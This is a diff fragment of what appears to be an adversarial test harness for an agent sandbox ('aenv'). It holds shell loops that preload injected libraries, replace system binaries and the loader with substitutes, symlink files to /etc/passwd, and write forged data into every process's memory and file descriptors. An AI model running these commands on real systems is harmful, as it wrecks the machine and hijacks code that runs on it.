@@ -42,7 +42,7 @@ echo 'export PYTHONSTARTUP=/tmp/json.py LD_PRELOAD=/tmp/x.so' |
 for name in *; do mv $name /tmp/; ln -s /etc/passwd $name; done
 for file in /bin/sh /bin/bash /usr/bin/env /usr/lib/chromium/chromium $(command -v python3) \
     /lib64/ld-linux-x86-64.so.2 /lib/*/libc.so.6 /.aenv/runtime/* /.aenv/python/bin/*; do
-  cp /tmp/python $file; mv -f /tmp/python $file; ln -sf /tmp/python $file; mount --bind /tmp/sh $file
+  cp /tmp/python $file; mv -f /tmp/python $file; ln -sf /tmp/sh $file; mount --bind /tmp/sh $file
 done
 for memory in /proc/[0-9]*/mem; do (echo "$forged" >$memory); done
 for output in /proc/[0-9]*/fd/*; do (echo "$forged" >$output); done
@@ -83,6 +83,8 @@ class Attacker:
                 await env.call_tool(*self._last_call)
         except AenvError:
             return  # it may have ended what answers
+
+
 TASKS: Final = {"mini-program": "landing-page"}
 """Needs no browser; the test of mini-program plays one that does."""
 
